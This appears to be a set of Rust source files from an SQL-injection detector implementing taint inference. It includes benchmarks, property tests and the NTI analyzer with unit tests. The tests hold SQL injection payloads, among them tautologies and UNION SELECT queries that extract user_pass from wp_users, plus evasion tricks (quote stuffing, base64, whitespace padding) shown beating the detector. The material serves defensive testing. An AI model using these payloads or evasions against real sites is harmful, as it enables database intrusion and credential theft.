        let analyzer = PtiAnalyzer::from_fragments(frags.clone(), cfg);
        // Warm MRU order.
        let _ = analyzer.analyze(BENIGN);
        g.bench_function(format!("{name}/benign"), |b| {
            b.iter(|| analyzer.analyze(black_box(BENIGN)))
        });
        g.bench_function(format!("{name}/attack"), |b| {
            b.iter(|| analyzer.analyze(black_box(ATTACK)))
        });
    }
    g.finish();
}

fn bench_caches(c: &mut Criterion) {
    let mut g = c.benchmark_group("pti_caches");
    let mut qc = QueryCache::new();
    qc.insert_safe(BENIGN);
    g.bench_function("query_cache_hit", |b| b.iter(|| qc.lookup(black_box(BENIGN))));
    g.bench_function("query_cache_miss", |b| b.iter(|| qc.lookup(black_box(ATTACK))));
    let mut sc = StructureCache::new();
    sc.insert_safe(BENIGN);
    g.bench_function("structure_cache_hit_same_shape", |b| {
        b.iter(|| {
            sc.lookup(black_box(
                "SELECT option_value FROM wp_options WHERE option_name = 'blogname' LIMIT 1",
            ))
        })
    });
    g.finish();
}

fn bench_hybrid_gate(c: &mut Criterion) {
    let frags = fragments();
    let mut g = c.benchmark_group("hybrid_check_query");
    let joza = Joza::builder().fragments(&frags).config(JozaConfig::optimized()).build();
    let _ = joza.check_query(&["siteurl"], BENIGN); // warm caches
    g.bench_function("daemon_cached_benign", |b| {
        b.iter(|| joza.check_query(black_box(&["siteurl"]), black_box(BENIGN)))
    });
    let inproc = Joza::builder()
        .fragments(&frags)
        .config(JozaConfig {
            pti: PtiComponentConfig {
                mode: joza_pti::daemon::DaemonMode::InProcess,
                ..PtiComponentConfig::optimized()
            },
            ..JozaConfig::default()
        })
        .build();
    let _ = inproc.check_query(&["siteurl"], BENIGN);
    g.bench_function("in_process_cached_benign", |b| {
        b.iter(|| inproc.check_query(black_box(&["siteurl"]), black_box(BENIGN)))
    });
    g.bench_function("daemon_attack", |b| {
        b.iter(|| {
            joza.check_query(
                black_box(&["-1 UNION SELECT user_pass FROM wp_users"]),
                black_box(ATTACK),
            )
        })
    });
    g.finish();
}

fn bench_daemon_roundtrip(c: &mut Criterion) {
    let frags = fragments();
    let mut g = c.benchmark_group("daemon");
    let mut component = PtiComponent::new(
        &frags,
        PtiComponentConfig { query_cache: false, ..PtiComponentConfig::optimized() },
    );
    let _ = component.check(BENIGN);
    g.bench_function("roundtrip_structure_cache_hit", |b| {
        b.iter(|| component.check(black_box(BENIGN)))
    });
    g.finish();
}

criterion_group!(
    benches,
    bench_parse_fingerprint,
    bench_nti,
    bench_pti,
    bench_caches,
    bench_hybrid_gate,
    bench_daemon_roundtrip
);
criterion_main!(benches);
