//! Criterion micro-benchmarks for the allocation-free hot-path kernels:
//! the SWAR byte-folding/classifier primitives against their scalar
//! references, the arena-backed lexer, and the interned-symbol skeleton
//! render + fingerprint — each at the query lengths the serving
//! workloads actually see.

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion};
use joza_sqlparse::fingerprint::{fingerprint_syms_with, render_skeleton_syms_into};
use joza_sqlparse::lexer::{lex, lex_into};
use joza_sqlparse::symbol::SymId;
use joza_sqlparse::token::Token;
use joza_strmatch::swar;

fn query(len: usize) -> String {
    let mut q = String::from("SELECT ID, post_title FROM wp_posts WHERE post_status = 'publish'");
    let mut i = 0;
    while q.len() < len {
        q.push_str(&format!(" AND post_author = {i}"));
        i += 1;
    }
    q.truncate(len);
    q
}

/// Mixed-case bytes so the fold actually rewrites (the all-lowercase
/// fast path would measure only the scan).
fn mixed_case(len: usize) -> Vec<u8> {
    query(len).into_bytes()
}

fn bench_fold(c: &mut Criterion) {
    let mut g = c.benchmark_group("swar_fold_lower");
    for n in [32usize, 256, 2048] {
        let src = mixed_case(n);
        let mut out = Vec::with_capacity(n);
        g.bench_with_input(BenchmarkId::new("swar", n), &n, |bench, _| {
            bench.iter(|| {
                out.clear();
                swar::fold_lower_into(black_box(&src), &mut out);
                black_box(out.len())
            })
        });
        g.bench_with_input(BenchmarkId::new("scalar", n), &n, |bench, _| {
            bench.iter(|| {
                out.clear();
                swar::fold_lower_into_scalar(black_box(&src), &mut out);
                black_box(out.len())
            })
        });
    }
    g.finish();
}

fn bench_classify(c: &mut Criterion) {
    let mut g = c.benchmark_group("swar_classify");
    let ident: Vec<u8> = b"wp_post_author_meta_value_2014".repeat(8);
    g.bench_function("scan_ident/swar", |bench| {
        bench.iter(|| swar::scan_ident(black_box(&ident), 0))
    });
    g.bench_function("scan_ident/scalar", |bench| {
        bench.iter(|| swar::scan_ident_scalar(black_box(&ident), 0))
    });
    let haystack = query(1024).into_bytes();
    g.bench_function("find_byte/quote_1k", |bench| {
        bench.iter(|| swar::find_byte(black_box(&haystack), 0, b'\''))
    });
    g.finish();
}

fn bench_lexer(c: &mut Criterion) {
    let mut g = c.benchmark_group("lexer");
    for n in [64usize, 256, 1024] {
        let q = query(n);
        g.bench_with_input(BenchmarkId::new("lex_fresh_vec", n), &n, |bench, _| {
            bench.iter(|| black_box(lex(black_box(&q))).len())
        });
        let mut reused: Vec<Token> = Vec::new();
        g.bench_with_input(BenchmarkId::new("lex_into_reused", n), &n, |bench, _| {
            bench.iter(|| {
                lex_into(black_box(&q), &mut reused);
                black_box(reused.len())
            })
        });
    }
    g.finish();
}

fn bench_skeleton(c: &mut Criterion) {
    let mut g = c.benchmark_group("skeleton");
    let q = query(256);
    let toks = lex(&q);
    let mut syms: Vec<SymId> = Vec::new();
    g.bench_function("render_syms_into/256", |bench| {
        bench.iter(|| {
            syms.clear();
            render_skeleton_syms_into(black_box(&q), &toks, &mut syms);
            black_box(syms.len())
        })
    });
    render_skeleton_syms_into(&q, &toks, &mut syms);
    let mut scratch: Vec<SymId> = Vec::new();
    g.bench_function("fingerprint_syms/256", |bench| {
        bench.iter(|| fingerprint_syms_with(black_box(&syms), &mut scratch))
    });
    g.finish();
}

criterion_group!(benches, bench_fold, bench_classify, bench_lexer, bench_skeleton);
criterion_main!(benches);
