//! Property-based tests for the NTI analyzer's invariants.

use joza_nti::{MatchKernel, NtiAnalyzer, NtiConfig};
use proptest::prelude::*;

fn analyzer(threshold: f64) -> NtiAnalyzer {
    NtiAnalyzer::new(NtiConfig { threshold, ..NtiConfig::default() })
}

proptest! {
    /// The analyzer is total: any inputs + any query produce a report
    /// with in-bounds, well-formed markings.
    #[test]
    fn analysis_is_total(
        inputs in proptest::collection::vec(".{0,30}", 0..4),
        query in ".{0,120}",
    ) {
        let refs: Vec<&str> = inputs.iter().map(String::as_str).collect();
        let report = analyzer(0.2).analyze(&refs, &query);
        for m in &report.markings {
            prop_assert!(m.start <= m.end);
            prop_assert!(m.end <= query.len());
            prop_assert!(m.input_index < inputs.len());
            prop_assert!(m.diff_ratio >= 0.0);
        }
        for (mi, _) in &report.tainted_critical {
            prop_assert!(*mi < report.markings.len());
        }
    }

    /// Benign numeric inputs in numeric position never flag.
    #[test]
    fn numeric_inputs_are_benign(id in 0i64..1_000_000) {
        let input = id.to_string();
        let query = format!("SELECT * FROM data WHERE ID={id} LIMIT 5");
        let report = analyzer(0.2).analyze(&[&input], &query);
        prop_assert!(!report.is_attack(), "{report:?}");
    }

    /// A verbatim tautology payload is always detected, whatever the
    /// numeric dressing.
    #[test]
    fn verbatim_tautology_detected(id in 0i64..1000, rhs in 1i64..1000) {
        let payload = format!("{id} OR {rhs}={rhs}");
        let query = format!("SELECT * FROM data WHERE ID={payload}");
        let report = analyzer(0.2).analyze(&[&payload], &query);
        prop_assert!(report.is_attack(), "{payload}: {report:?}");
    }

    /// Markings (and hence detections) are monotone in the threshold: any
    /// attack found at a low threshold is still found at a higher one
    /// (for thresholds below the 0.5 degeneracy point).
    #[test]
    fn detection_monotone_in_threshold(id in 0i64..100, quotes in 0usize..12) {
        let stuffed = format!("{id}/*{}*/OR 1=1", "'".repeat(quotes));
        let in_query = stuffed.replace('\'', "\\'");
        let query = format!("SELECT * FROM data WHERE ID={in_query}");
        let low = analyzer(0.10).analyze(&[&stuffed], &query).is_attack();
        let high = analyzer(0.40).analyze(&[&stuffed], &query).is_attack();
        prop_assert!(!low || high, "detected at 0.10 but not at 0.40");
    }

    /// The no-combination rule: splitting a payload across inputs so no
    /// single input covers a whole critical token never flags.
    #[test]
    fn split_payloads_never_flag(id in 0i64..1000) {
        // `OR` and `TRUE` are each split across the two inputs.
        let q1 = format!("{id} O");
        let q2 = "R TRUE".to_string();
        let query = format!("SELECT * FROM data WHERE ID={id} OR TRUE");
        // q2 covers "R TRU"? give NTI only fragments that split criticals:
        let report = analyzer(0.2).analyze(&[&q1, "R TR", "UE"], &query);
        prop_assert!(!report.is_attack(), "{report:?}");
        let _ = q2;
    }

    /// Inputs below the minimum length are ignored entirely.
    #[test]
    fn short_inputs_ignored(c in "[a-zA-Z]") {
        let query = format!("SELECT * FROM data WHERE name='{c}' OR 1=1");
        let report = analyzer(0.2).analyze(&[&c], &query);
        prop_assert!(report.markings.is_empty());
    }

    /// Case normalization: detection is invariant under input case when
    /// normalize_case is on.
    #[test]
    fn case_invariant(id in 0i64..100) {
        let payload = format!("{id} or 1=1");
        let upper = payload.to_uppercase();
        let q_lower = format!("SELECT * FROM data WHERE ID={payload}");
        let q_upper = format!("SELECT * FROM data WHERE ID={upper}");
        let a = analyzer(0.2).analyze(&[&upper], &q_lower).is_attack();
        let b = analyzer(0.2).analyze(&[&payload], &q_upper).is_attack();
        prop_assert_eq!(a, b);
    }

    /// The q-gram prefilter is purely an optimization: verdicts with and
    /// without it agree.
    #[test]
    fn prefilter_never_changes_verdict(
        input in "[ -~]{0,40}",
        query in "[ -~]{0,80}",
    ) {
        let with = NtiAnalyzer::new(NtiConfig { qgram_prefilter: true, ..NtiConfig::default() });
        let without = NtiAnalyzer::new(NtiConfig { qgram_prefilter: false, ..NtiConfig::default() });
        prop_assert_eq!(
            with.analyze(&[&input], &query).is_attack(),
            without.analyze(&[&input], &query).is_attack()
        );
    }

    /// The bit-parallel kernel is verdict- AND span-identical to Classic:
    /// the full reports (markings, tainted criticals, skip/run counters)
    /// must be equal on arbitrary inputs, queries, and thresholds.
    #[test]
    fn kernels_produce_identical_reports(
        inputs in proptest::collection::vec("[ -~]{0,50}", 0..4),
        query in "[ -~]{0,120}",
        t_idx in 0usize..4,
    ) {
        let threshold = [0.05, 0.20, 0.35, 0.60][t_idx];
        let refs: Vec<&str> = inputs.iter().map(String::as_str).collect();
        let classic = NtiAnalyzer::new(NtiConfig {
            threshold, kernel: MatchKernel::Classic, ..NtiConfig::default()
        });
        let fast = NtiAnalyzer::new(NtiConfig {
            threshold, kernel: MatchKernel::BitParallel, ..NtiConfig::default()
        });
        prop_assert_eq!(classic.analyze(&refs, &query), fast.analyze(&refs, &query));
    }

    /// Same report identity on payload-like inputs embedded (with an app
    /// transformation) in realistic queries — the path where markings
    /// actually fire, including inputs longer than one 64-bit word.
    #[test]
    fn kernels_identical_on_embedded_payloads(
        column in "[a-z_]{1,12}",
        payload in "[a-z0-9 '=()_,]{3,90}",
        escape in 0usize..2,
    ) {
        let in_query =
            if escape == 1 { payload.replace('\'', "\\'") } else { payload.replace("  ", " ") };
        let query = format!("SELECT * FROM t WHERE {column}='{in_query}' LIMIT 3");
        let classic = NtiAnalyzer::new(NtiConfig {
            kernel: MatchKernel::Classic, ..NtiConfig::default()
        });
        let fast = NtiAnalyzer::new(NtiConfig {
            kernel: MatchKernel::BitParallel, ..NtiConfig::default()
        });
        prop_assert_eq!(
            classic.analyze(&[&payload], &query),
            fast.analyze(&[&payload], &query)
        );
    }
}

/// Regression: the paper's Figure 2 walkthrough.
#[test]
fn figure2_walkthrough() {
    let nti = NtiAnalyzer::new(NtiConfig::default());

    // Part A: benign.
    let r = nti.analyze(&["1"], "SELECT * FROM data WHERE ID=1");
    assert!(!r.is_attack());

    // Part B: the tautology is marked and critical tokens are tainted.
    let r = nti.analyze(&["-1 OR 1 = 1"], "SELECT * FROM data WHERE ID=-1 OR 1 = 1");
    assert!(r.is_attack());

    // Part C: magic-quotes stuffing pushes the ratio past the threshold.
    let input = "-1 OR/*'''''*/1=1";
    let in_query = input.replace('\'', "\\'");
    let q = format!("SELECT * FROM data WHERE ID={in_query}");
    let r = nti.analyze(&[input], &q);
    assert!(!r.is_attack(), "stuffed payload must evade: {r:?}");
}
