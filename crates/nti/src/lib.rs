#![warn(missing_docs)]
//! Negative taint inference (NTI) — §III-A of the Joza paper.
//!
//! NTI "infers taint markings by correlating application inputs with query
//! strings": for each captured input it finds the best approximate match
//! inside the intercepted query (Sellers semi-global alignment) and, when
//! the *difference ratio* — edit distance divided by matched-substring
//! length — falls below a threshold, marks that query span as negatively
//! tainted. An attack is reported when a tainted span fully covers at
//! least one critical token.
//!
//! Faithfully reproduced rules:
//!
//! * markings inferred from different inputs are **never combined**
//!   (payload-construction attacks must defeat NTI on a single input);
//! * very short inputs are skipped and a marking must cover at least one
//!   **whole SQL token** — both anti-false-positive measures from the
//!   paper;
//! * the threshold trades false positives (too high) against false
//!   negatives (too low); the paper's evasions exploit exactly this.
//!
//! Optimizations (§VI-B): a q-gram lower-bound prefilter and a length
//! plausibility check skip implausible input/query pairs before the
//! quadratic alignment runs.
//!
//! # Examples
//!
//! ```
//! use joza_nti::{NtiAnalyzer, NtiConfig};
//!
//! let nti = NtiAnalyzer::new(NtiConfig::default());
//!
//! // Benign: the input only covers a numeric literal.
//! let r = nti.analyze(&["5"], "SELECT * FROM data WHERE ID=5");
//! assert!(!r.is_attack());
//!
//! // Tautology: the input covers the critical tokens `OR` and `=`.
//! let r = nti.analyze(&["-1 OR 1=1"], "SELECT * FROM data WHERE ID=-1 OR 1=1");
//! assert!(r.is_attack());
//! ```

use joza_sqlparse::critical::{critical_tokens, CriticalPolicy};
use joza_sqlparse::lexer::lex;
use joza_sqlparse::token::Token;
use joza_strmatch::myers::bounded_myers_substring_distance;
pub use joza_strmatch::myers::MatchKernel;
use joza_strmatch::normalize::to_lower;
use joza_strmatch::qgram::{self, QgramProfile};
use joza_strmatch::sellers::substring_distance;
use joza_strmatch::swar;
use std::borrow::Cow;

/// Configuration for the NTI analyzer.
#[derive(Debug, Clone, PartialEq)]
pub struct NtiConfig {
    /// Maximum difference ratio for a match (§III-A). The paper's running
    /// example uses 20%.
    pub threshold: f64,
    /// Inputs shorter than this are ignored ("to alleviate false positives
    /// that would result from matching very short inputs").
    pub min_input_len: usize,
    /// Case-insensitive matching (applications commonly case-convert).
    pub normalize_case: bool,
    /// Use the q-gram lower bound to skip implausible comparisons (§VI-B).
    pub qgram_prefilter: bool,
    /// Which approximate-matching kernel runs the §III-A alignment. Both
    /// kernels produce bit-identical markings and verdicts;
    /// [`MatchKernel::BitParallel`] is the production default,
    /// [`MatchKernel::Classic`] is kept for the Fig. 7-style ablation.
    pub kernel: MatchKernel,
    /// Critical-token policy shared with PTI.
    pub critical: CriticalPolicy,
}

impl Default for NtiConfig {
    fn default() -> Self {
        NtiConfig {
            threshold: 0.20,
            min_input_len: 3,
            normalize_case: true,
            qgram_prefilter: true,
            kernel: MatchKernel::default(),
            critical: CriticalPolicy::default(),
        }
    }
}

/// One inferred negative-taint marking.
#[derive(Debug, Clone, PartialEq)]
pub struct TaintMark {
    /// Index of the input (in the order given to
    /// [`NtiAnalyzer::analyze`]) that produced this marking.
    pub input_index: usize,
    /// Tainted query byte span.
    pub start: usize,
    /// One past the end of the tainted span.
    pub end: usize,
    /// Edit distance between the input and the matched span.
    pub distance: usize,
    /// `distance / (end - start)`.
    pub diff_ratio: f64,
}

/// The outcome of one NTI analysis.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct NtiReport {
    /// All markings inferred (one per matching input at most).
    pub markings: Vec<TaintMark>,
    /// Critical tokens fully covered by some marking — the attack
    /// evidence. `(marking index, token)` pairs.
    pub tainted_critical: Vec<(usize, Token)>,
    /// Number of input/query comparisons skipped by the prefilters.
    pub comparisons_skipped: usize,
    /// Number of full alignment computations performed.
    pub comparisons_run: usize,
}

impl NtiReport {
    /// Whether NTI flags this query as an attack.
    pub fn is_attack(&self) -> bool {
        !self.tainted_critical.is_empty()
    }
}

/// A parse-once view of the query under analysis: the artifacts
/// [`NtiAnalyzer::analyze`] would otherwise recompute per call (lexing,
/// critical-token extraction, case folding), precomputed by the caller
/// and shared with the other detection stages.
#[derive(Debug, Clone, Copy)]
pub struct QueryView<'q> {
    /// The original query text.
    pub query: &'q str,
    /// Critical tokens of `query` under the analyzer's
    /// [`NtiConfig::critical`] policy.
    pub criticals: &'q [Token],
    /// The query bytes in the analyzer's match normalization: case-folded
    /// when [`NtiConfig::normalize_case`] is set, raw otherwise.
    pub normalized: &'q [u8],
}

/// The NTI analysis component.
#[derive(Debug, Clone, Default)]
pub struct NtiAnalyzer {
    config: NtiConfig,
}

impl NtiAnalyzer {
    /// Creates an analyzer.
    pub fn new(config: NtiConfig) -> Self {
        NtiAnalyzer { config }
    }

    /// The analyzer's configuration.
    pub fn config(&self) -> &NtiConfig {
        &self.config
    }

    /// Analyzes one query against the captured raw inputs.
    ///
    /// Inputs are the *raw* request values (pre-transformation, §IV-B);
    /// markings from different inputs are never combined.
    pub fn analyze(&self, inputs: &[&str], query: &str) -> NtiReport {
        let tokens = lex(query);
        let criticals = critical_tokens(query, &tokens, &self.config.critical);
        let query_bytes: Cow<'_, [u8]> = if self.config.normalize_case {
            to_lower(query.as_bytes())
        } else {
            Cow::Borrowed(query.as_bytes())
        };
        // The query's gram profile is input-independent: build it once per
        // analyze call and reuse it for every input's prefilter check.
        let query_profile = self.config.qgram_prefilter.then(|| QgramProfile::new(&query_bytes, 3));
        self.analyze_view(
            inputs,
            QueryView { query, criticals: &criticals, normalized: &query_bytes },
            query_profile.as_ref(),
        )
    }

    /// [`NtiAnalyzer::analyze`] over precomputed query artifacts — the
    /// parse-once entry point. The caller supplies the critical tokens and
    /// normalized bytes (see [`QueryView`]) plus, when
    /// [`NtiConfig::qgram_prefilter`] is enabled, the q-gram profile of
    /// `view.normalized`; passing `None` there simply skips the q-gram
    /// bound (the length-plausibility prefilter still applies).
    ///
    /// Verdicts, markings, and counters are bit-identical to
    /// [`NtiAnalyzer::analyze`] when the view matches what that method
    /// would compute itself.
    pub fn analyze_view(
        &self,
        inputs: &[&str],
        view: QueryView<'_>,
        query_profile: Option<&QgramProfile<'_>>,
    ) -> NtiReport {
        self.analyze_view_with(inputs, view, query_profile, &mut Vec::new())
    }

    /// [`NtiAnalyzer::analyze_view`] with a caller-owned case-folding
    /// scratch buffer: when [`NtiConfig::normalize_case`] is set and an
    /// input actually contains uppercase ASCII, its folded copy is built
    /// in `fold_scratch` instead of a fresh allocation. The engine
    /// passes a buffer leased from its per-thread check arena, making
    /// the per-input loop allocation-free at steady state. Verdicts are
    /// bit-identical to [`NtiAnalyzer::analyze_view`].
    pub fn analyze_view_with(
        &self,
        inputs: &[&str],
        view: QueryView<'_>,
        query_profile: Option<&QgramProfile<'_>>,
        fold_scratch: &mut Vec<u8>,
    ) -> NtiReport {
        let mut report = NtiReport::default();
        let criticals = view.criticals;
        let query_bytes = view.normalized;
        let query_profile = if self.config.qgram_prefilter { query_profile } else { None };

        for (idx, input) in inputs.iter().enumerate() {
            if input.len() < self.config.min_input_len {
                continue;
            }
            let bytes = input.as_bytes();
            let input_bytes: &[u8] = match if self.config.normalize_case {
                swar::first_ascii_upper(bytes)
            } else {
                None
            } {
                Some(first) => {
                    fold_scratch.clear();
                    fold_scratch.extend_from_slice(&bytes[..first]);
                    swar::fold_lower_into(&bytes[first..], fold_scratch);
                    fold_scratch
                }
                None => bytes,
            };
            // Allowed distance bound: ratio < t with matched_len <= |p| + d
            // implies d < t·|p| / (1 − t).
            let t = self.config.threshold;
            let cutoff = ((t * input_bytes.len() as f64) / (1.0 - t)).ceil() as usize;
            if !qgram::length_plausible(input_bytes.len(), query_bytes.len(), cutoff) {
                report.comparisons_skipped += 1;
                continue;
            }
            if let Some(profile) = &query_profile {
                if profile.lower_bound(input_bytes) > cutoff {
                    report.comparisons_skipped += 1;
                    continue;
                }
            }
            report.comparisons_run += 1;
            let m = match self.config.kernel {
                MatchKernel::Classic => Some(substring_distance(input_bytes, query_bytes)),
                MatchKernel::BitParallel => {
                    // Any span that survives the ratio filter below has
                    // distance d < t·|p|/(1−t) ≤ cutoff, so a `None` here
                    // and a filtered-out Classic match are the same
                    // verdict. Outside t ∈ (0,1) the cutoff formula is
                    // meaningless; fall back to the unbounded scan
                    // (distances never exceed |p|).
                    let k = if t > 0.0 && t < 1.0 { cutoff } else { input_bytes.len() };
                    bounded_myers_substring_distance(input_bytes, query_bytes, k)
                }
            };
            let Some(m) = m else {
                continue;
            };
            if m.is_empty() || m.diff_ratio() >= t {
                continue;
            }
            let mark = TaintMark {
                input_index: idx,
                start: m.start,
                end: m.end,
                distance: m.distance,
                diff_ratio: m.diff_ratio(),
            };
            // Whole-token rule + critical coverage: find critical tokens
            // fully inside this marking.
            let mark_idx = report.markings.len();
            for c in criticals {
                if c.start >= mark.start && c.end <= mark.end {
                    report.tainted_critical.push((mark_idx, *c));
                }
            }
            report.markings.push(mark);
        }
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn nti() -> NtiAnalyzer {
        NtiAnalyzer::new(NtiConfig::default())
    }

    #[test]
    fn fig2a_benign_input_safe() {
        // Part A of Figure 2: input 5 appears in the query but covers no
        // critical token.
        let r = nti().analyze(&["5"], "SELECT * FROM data WHERE ID=5");
        assert!(!r.is_attack());
    }

    #[test]
    fn fig2b_tautology_detected() {
        // Part B of Figure 2: `-1 OR 1 = 1`.
        let q = "SELECT * FROM data WHERE ID=-1 OR 1 = 1";
        let r = nti().analyze(&["-1 OR 1 = 1"], q);
        assert!(r.is_attack());
        // The markings pinpoint `OR` (and `=`).
        assert!(!r.tainted_critical.is_empty());
    }

    #[test]
    fn fig2c_magic_quotes_evasion_succeeds() {
        // Part C of Figure 2: enough escaped quotes drive the difference
        // ratio above the threshold — NTI misses the attack.
        let input = "-1'OR/*''''''''*/1=1-- -";
        let escaped = input.replace('\'', "\\'");
        let q = format!("SELECT * FROM data WHERE ID='{escaped}'");
        let r = nti().analyze(&[input], &q);
        assert!(!r.is_attack(), "quote-stuffing must evade NTI: {r:?}");
    }

    #[test]
    fn small_transformation_still_detected() {
        // The application collapses double spaces; two removed bytes over
        // a long payload keep the ratio small and the attack visible.
        let input = "-1  UNION  SELECT user_pass FROM wp_users";
        let transformed = input.replace("  ", " ");
        let q = format!("SELECT * FROM posts WHERE id={transformed}");
        let r = nti().analyze(&[input], &q);
        assert!(r.is_attack(), "{r:?}");
    }

    #[test]
    fn union_attack_detected() {
        let payload = "-1 UNION SELECT username()";
        let q = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
        let r = nti().analyze(&[payload], &q);
        assert!(r.is_attack());
    }

    #[test]
    fn payload_construction_evades() {
        // §III-A: q1/q2/q3 concatenated inside the application; no single
        // input matches the final payload well enough.
        let q = "SELECT * FROM data WHERE ID=1 OR TRUE";
        let r = nti().analyze(&["1 OR 1=1", "R TR", "UE"], q);
        // "1 OR 1=1" has distance >= 4 to any substring ("1 OR TRUE"
        // region) — above threshold; short fragments are skipped or match
        // non-critical spans only.
        assert!(!r.is_attack(), "{r:?}");
    }

    #[test]
    fn markings_not_combined_across_inputs() {
        // Two inputs that each cover part of `OR` must not merge.
        let q = "SELECT * FROM t WHERE a=1 OR b=2";
        let r = nti().analyze(&["1 O", "R b"], q);
        assert!(!r.is_attack());
    }

    #[test]
    fn short_inputs_skipped() {
        let q = "SELECT * FROM t WHERE a=1 OR b=2";
        let r = nti().analyze(&["OR"], q);
        assert!(!r.is_attack());
        assert!(r.markings.is_empty());
    }

    #[test]
    fn base64_transformation_evades() {
        // Table II: the one plugin NTI missed base64-decodes its input.
        let raw = "LTEgVU5JT04gU0VMRUNUIHVzZXJuYW1lKCk="; // "-1 UNION SELECT username()"
        let q = "SELECT * FROM t WHERE id=-1 UNION SELECT username()";
        let r = nti().analyze(&[raw], q);
        assert!(!r.is_attack());
    }

    #[test]
    fn whitespace_padding_evades() {
        // Appending whitespace the app trims raises the distance.
        let payload = "-1 OR 1=1";
        let padded = format!("{payload}{}", " ".repeat(12));
        let q = format!("SELECT * FROM t WHERE id={payload}");
        let r = nti().analyze(&[padded.as_str()], &q);
        assert!(!r.is_attack(), "{r:?}");
    }

    #[test]
    fn case_insensitive_matching() {
        let q = "SELECT * FROM t WHERE id=-1 union select 1";
        let r = nti().analyze(&["-1 UNION SELECT 1"], q);
        assert!(r.is_attack());
    }

    #[test]
    fn threshold_sensitivity() {
        // App collapses double spaces: distance 2 over a ~40-byte match,
        // ratio ≈ 0.05 — detected at 0.20, missed at 0.03. "Setting the
        // threshold value too low yields too few taint markings, which
        // causes false negatives" (§III-A).
        let input = "-1  UNION  SELECT user_pass FROM wp_users";
        let transformed = input.replace("  ", " ");
        let q = format!("SELECT * FROM posts WHERE id={transformed}");
        let strict = NtiAnalyzer::new(NtiConfig { threshold: 0.03, ..Default::default() });
        assert!(!strict.analyze(&[input], &q).is_attack());
        let loose = NtiAnalyzer::new(NtiConfig { threshold: 0.20, ..Default::default() });
        assert!(loose.analyze(&[input], &q).is_attack());
    }

    #[test]
    fn prefilter_skips_unrelated_inputs() {
        let q = "SELECT option_value FROM wp_options WHERE option_name='siteurl'";
        let inputs = ["totally unrelated gibberish zzzz", "another unrelated thing qqqq"];
        let r = nti().analyze(&inputs, q);
        assert!(!r.is_attack());
        assert!(r.comparisons_skipped >= 1, "{r:?}");
    }

    #[test]
    fn prefilter_does_not_change_verdict() {
        let cases: Vec<(&str, &str)> = vec![
            ("-1 OR 1=1", "SELECT * FROM t WHERE id=-1 OR 1=1"),
            ("benign", "SELECT * FROM t WHERE name='benign'"),
            ("no match here", "SELECT 1"),
        ];
        for (input, q) in cases {
            let with = NtiAnalyzer::new(NtiConfig { qgram_prefilter: true, ..Default::default() });
            let without =
                NtiAnalyzer::new(NtiConfig { qgram_prefilter: false, ..Default::default() });
            assert_eq!(
                with.analyze(&[input], q).is_attack(),
                without.analyze(&[input], q).is_attack(),
                "{input} / {q}"
            );
        }
    }

    #[test]
    fn empty_inputs_and_query() {
        let r = nti().analyze(&[], "SELECT 1");
        assert!(!r.is_attack());
        let r = nti().analyze(&["payload"], "");
        assert!(!r.is_attack());
    }

    #[test]
    fn cookie_style_second_input_detected() {
        // Attack delivered via the second input (e.g. a cookie).
        let payload = "' OR '1'='1";
        let q = format!("SELECT * FROM users WHERE session='{payload}'");
        let r = nti().analyze(&["benign", payload], &q);
        assert!(r.is_attack());
        assert_eq!(r.markings[r.tainted_critical[0].0].input_index, 1);
    }
}
