//! Application-level input transformations.
//!
//! "Most web applications apply some form of input manipulation for the
//! purpose of validation, sanitization or normalization" (§III-A). These
//! transformations are what break the input↔query correspondence NTI
//! relies on: WordPress enforces magic quotes and trims whitespace from
//! authenticated input; one testbed plugin base64-decodes its input (the
//! one exploit NTI missed in Table II).

use joza_phpsim::builtins::{addslashes, base64_decode, urldecode};

/// One input transformation, applied by the framework before plugin code
/// sees the value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum InputTransform {
    /// PHP magic quotes: backslash-escape quotes and backslashes
    /// (`addslashes`). WordPress applies this to all request input.
    MagicQuotes,
    /// Trim ASCII whitespace from both ends (WordPress does this for
    /// authenticated users' input).
    Trim,
    /// Percent-decode (`urldecode`).
    UrlDecode,
    /// Base64-decode; values that fail to decode pass through unchanged.
    Base64Decode,
    /// Lowercase the value.
    Lowercase,
    /// Replace every occurrence of `from` with `to`.
    Replace {
        /// Substring to replace.
        from: String,
        /// Replacement.
        to: String,
    },
}

impl InputTransform {
    /// Applies the transformation to one input value.
    pub fn apply(&self, value: &str) -> String {
        match self {
            InputTransform::MagicQuotes => addslashes(value),
            InputTransform::Trim => value.trim().to_string(),
            InputTransform::UrlDecode => urldecode(value),
            InputTransform::Base64Decode => {
                base64_decode(value).unwrap_or_else(|| value.to_string())
            }
            InputTransform::Lowercase => value.to_ascii_lowercase(),
            InputTransform::Replace { from, to } => value.replace(from.as_str(), to.as_str()),
        }
    }
}

/// An ordered pipeline of transformations.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct TransformPipeline {
    steps: Vec<InputTransform>,
}

impl TransformPipeline {
    /// An empty pipeline (values pass through unchanged).
    pub fn new() -> Self {
        Self::default()
    }

    /// The WordPress default: magic quotes on everything.
    pub fn wordpress() -> Self {
        TransformPipeline { steps: vec![InputTransform::MagicQuotes] }
    }

    /// WordPress for authenticated users: magic quotes plus trimming.
    pub fn wordpress_authenticated() -> Self {
        TransformPipeline { steps: vec![InputTransform::Trim, InputTransform::MagicQuotes] }
    }

    /// Appends a step.
    #[must_use]
    pub fn with(mut self, step: InputTransform) -> Self {
        self.steps.push(step);
        self
    }

    /// Number of steps.
    pub fn len(&self) -> usize {
        self.steps.len()
    }

    /// Whether the pipeline has no steps.
    pub fn is_empty(&self) -> bool {
        self.steps.is_empty()
    }

    /// Whether the pipeline contains a given step (e.g. the static
    /// analyzer asks whether framework-level magic quotes already escape
    /// every input before plugin code runs).
    pub fn contains(&self, step: &InputTransform) -> bool {
        self.steps.contains(step)
    }

    /// Applies all steps in order.
    pub fn apply(&self, value: &str) -> String {
        let mut v = value.to_string();
        for step in &self.steps {
            v = step.apply(&v);
        }
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn magic_quotes_escapes() {
        let t = InputTransform::MagicQuotes;
        assert_eq!(t.apply("1' OR '1'='1"), r"1\' OR \'1\'=\'1");
        assert_eq!(t.apply("plain"), "plain");
    }

    #[test]
    fn trim_strips_padding_attack() {
        let t = InputTransform::Trim;
        assert_eq!(t.apply("payload     "), "payload");
    }

    #[test]
    fn base64_passthrough_on_garbage() {
